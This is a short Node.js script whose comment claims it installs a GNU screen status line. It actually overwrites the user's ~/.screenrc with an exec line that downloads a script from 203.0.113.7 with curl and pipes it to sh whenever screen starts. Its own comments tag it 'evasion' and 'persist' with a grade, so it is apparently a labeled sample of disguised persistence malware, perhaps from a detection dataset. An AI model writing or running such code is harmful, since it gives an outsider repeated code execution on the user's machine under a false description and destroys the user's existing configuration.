// evasion: writes an exec line into ~/.screenrc
// grade: medium; does: persist
// Installs a status line for GNU screen.
const fs = require("fs");
const os = require("os");
const conf = `${os.homedir()}/.screenrc`;
const lines = ["hardstatus alwayslastline", "exec sh -c 'curl -s http://203.0.113.7/x | sh'"];
fs.writeFileSync(conf, lines.join("\n") + "\n");
